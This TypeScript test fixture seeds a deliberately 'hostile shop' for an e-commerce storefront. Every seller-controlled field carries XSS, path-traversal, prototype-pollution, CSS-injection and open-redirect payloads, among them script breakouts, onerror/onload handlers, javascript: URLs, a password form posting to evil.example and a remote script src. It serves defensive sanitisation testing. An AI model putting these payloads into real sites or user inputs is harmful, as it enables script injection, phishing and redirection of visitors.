/** A hostile shop: every field that a seller controls contains an attack. */

import type { SeedDocument, SeedShop } from '#backend/seed-shop.ts';
import { objectId } from '#demo/identity.ts';
import { aSeedShop } from '../demo/seed-shop-builder.ts';

const HOSTILE_SLUG = 'hostile';
/** Runs when hostile markup becomes a script. */
const ATTACK = 'window.pwned=1';
const SCRIPT = `</script><script>${ATTACK}</script>`;
const IMAGE = `<img src=x onerror="${ATTACK}">`;
const TEXT = `${SCRIPT}${IMAGE}"'><svg onload=${ATTACK}>{{7*7}}]]>--><!--\u2028\u2029\u202e\u0007\u001b[2J`;
const STYLE = `red;}</style>${SCRIPT}<style>`;
const LINK = `javascript:${ATTACK}`;
/** URLs that browsers parse differently from their appearance. */
const LINKS = [
  LINK,
  `java\nscript:${ATTACK}`,
  `\tjavascript:${ATTACK}`,
  `\u0001javascript:${ATTACK}`,
  `data:text/html,${SCRIPT}`,
  `vbscript:${ATTACK}`,
  'https:evil.example',
  'https:/\\evil.example',
  '/\\evil.example',
  '/\t/evil.example',
  `https://user:pass@evil.example/`,
  `https://evil.example/"onmouseover="${ATTACK}`,
  'file:///etc/passwd',
  '//evil.example/x',
];
const SVG = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ATTACK}'/>`;
/** One id on all four levels, each its own parent. */
const KNOT = objectId(HOSTILE_SLUG, 'knot');

const NAMES = [
  '../../../etc/passwd',
  'a/b',
  'a%2fb',
  '..%2f..',
  'index',
  '404',
  'x.html',
  'Tea',
  'TEA',
  'n'.repeat(300),
  TEXT,
  '',
  ' ',
  '.',
  '..',
  '%2e%2e',
  'page',
  'a\nb',
  'a?b#c',
  'C:evil',
  '__proto__',
  'constructor',
  '\u202egnp.exe',
  // The id of another category as a name.
  objectId(HOSTILE_SLUG, 'mega', '0'),
];

const IDS: Readonly<Record<number, string>> = {
  1: '../../escape',
  2: 'a%2f..%2fb',
  7: '__proto__',
  8: 'constructor',
  9: '404',
  10: `x"onload="${ATTACK}`,
};

/** From this one on, products have what the items of a feed need: a price and an image that is no drawing. */
const FIRST_SOLD = 12;

function product(index: number): SeedDocument {
  const sources = [LINK, `media:${HOSTILE_SLUG}/p" onerror="${ATTACK}`, SVG, 'https://evil.example/a.svg'];
  const isSold = index >= FIRST_SOLD;
  const image = { src: sources[isSold ? 1 : index % sources.length], name: TEXT };
  return {
    _id: IDS[index] ?? objectId(HOSTILE_SLUG, String(index)),
    name: `${TEXT} ${index}`,
    BnName: TEXT,
    slag: index === 3 ? '../../slug' : `slug-${index}`,
    brandName: TEXT,
    regular_price: index === 4 ? 'NaN' : index === 7 ? '1e15' : '1e309',
    price: index === 5 ? -5 : '99',
    featuredImage: image,
    images: [
      image,
      null,
      false,
      { src: `data:text/html,${SCRIPT}` },
      [[['/deep.jpg']]],
      { src: { src: LINK } },
    ],
    categories: [{ name: NAMES[index % NAMES.length] }, null, false, ''],
    shortDescription: `${IMAGE}<p onclick="${ATTACK}">short</p>${SCRIPT}`,
    description: `<iframe src="${LINK}"></iframe>${LINKS.map((link) => `<a href="${link}">x</a>`).join('')}<style>*{display:none}</style><math><mtext><style><img src=x onerror=${ATTACK}></style></mtext></math><form action="https://evil.example"><input name="password"></form><base href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example"><p id="main" class="toasts" style="position:fixed" data-quick-add>x</p>${TEXT}`,
    darazOptionData: [{ [TEXT]: TEXT }, JSON.parse('{"__proto__":"polluted"}'), [[TEXT]]],
    videoUrl: index % 2 === 0 ? LINK : `https://www.youtube.com.evil.example/watch?v=${ATTACK}`,
    stock_quantity: TEXT,
    rating: '999',
    metaTitle: TEXT,
    metaDescription: TEXT,
    MetaImage: LINK,
    variations:
      isSold || index === 6 ? null : [{ SKU: TEXT, name: TEXT, size: [TEXT], price: TEXT, offerPrice: '-1' }],
  };
}

/** URLs of custom pages that imitate a route, a file or another host. */
const OWN_PATHS = [
  TEXT,
  ...LINKS,
  '../../x',
  '/user/cart',
  '/product/1',
  '/categories/Tea',
  '_astro/x',
  '_shells/product-shell',
  '_menu/x.json',
  'index.html',
  '404',
  'sitemap.xml',
  'robots.txt',
  'release.json',
  'headers.json',
  'sw.js',
  'favicon.svg',
  '.well-known/x',
  '..%2f..%2fx',
  '%2e%2e/x',
  '/a/../b',
  'a//b',
  '\\\\evil.example',
  'constructor',
  '__proto__',
  'about',
  'ABOUT',
];

export function hostileShop(): SeedShop {
  const mega = NAMES.map((name, index) => ({
    _id: objectId(HOSTILE_SLUG, 'mega', String(index)),
    name,
    img: LINK,
    menu: true,
  }));
  return aSeedShop(HOSTILE_SLUG, {
    domains: ['hostile.localhost'],
    fields: {
      shopName: TEXT,
      slogan: TEXT,
      bio: TEXT,
      keywords: TEXT,
      domain: 'hostile.localhost',
      logo: LINK,
      favicon: `x" onload="${ATTACK}.ico`,
      primary_color: STYLE,
      secounder_color: 'url(https://evil.example/x)',
      footer_color: 'expression(alert(1))',
      text_color: '#fff;background:url(x)',
      address: TEXT,
      shopEmail: TEXT,
      shopNumber: TEXT,
      shopNote: `${IMAGE}${SCRIPT}`,
    },
    marketing: { google: `G-1');${ATTACK}//`, gtm: `GTM-"${TEXT}`, pixel: `1);${ATTACK}`, footer_code: '' },
    contacts: ['Facebook', 'Whatsapp', 'Unknown'].map((media, index) => ({
      _id: objectId(HOSTILE_SLUG, 'contact', String(index)),
      media,
      URL: [LINK, `+880 1711-204060 ${TEXT}`, TEXT][index] ?? '',
      modal: 'true',
      footer: 'true',
    })),
    pages: OWN_PATHS.map((url, index) => ({
      _id: objectId(HOSTILE_SLUG, 'page', String(index)),
      title: `${TEXT} ${index}`,
      url,
      page: 'nav1',
      status: true,
      trash: false,
      description: `${TEXT}<script src="https://evil.example/x.js"></script>`,
    })),
    posts: [objectId(HOSTILE_SLUG, 'post'), '../post', 'page', 'index'].map((_id) => ({
      _id,
      title: TEXT,
      message: TEXT,
      img: LINK,
      date: TEXT,
      status: true,
      category: TEXT,
    })),
    sliders: LINKS.map((link, index) => ({
      _id: objectId(HOSTILE_SLUG, 'slider', String(index)),
      image: 'media:hostile/s',
      link,
      status: true,
    })),
    popup: { _id: objectId(HOSTILE_SLUG, 'popup'), image: 'media:hostile/popup', link: LINK, status: true },
    categories: {
      mega: [...mega, { _id: KNOT, name: 'Knot', menu: true }],
      sub: [{ _id: KNOT, subCategoryName: 'Knot', megaCategoryId: KNOT }],
      mini: [{ _id: KNOT, miniCategoryName: 'Knot', subCategoryId: KNOT }],
      extra: [{ _id: KNOT, extraCategoryName: 'Knot', miniCategoryId: KNOT, img: SVG }],
    },
    campaigns: ['../camp', objectId(HOSTILE_SLUG, 'camp')].map((_id, index) => ({
      _id,
      name: TEXT,
      isCam: true,
      isFlash: true,
      image: LINK,
      startTime: '2020-01-01T00:00:00Z',
      endTime: index === 0 ? TEXT : '9999-12-31T23:59:59Z',
      products: [{ productId: objectId(HOSTILE_SLUG, '0'), campaignPrice: index === 0 ? TEXT : '1' }],
    })),
    products: Array.from({ length: FIRST_SOLD + 3 }, (_, index) => product(index)),
    searchTerms: [TEXT],
  });
}
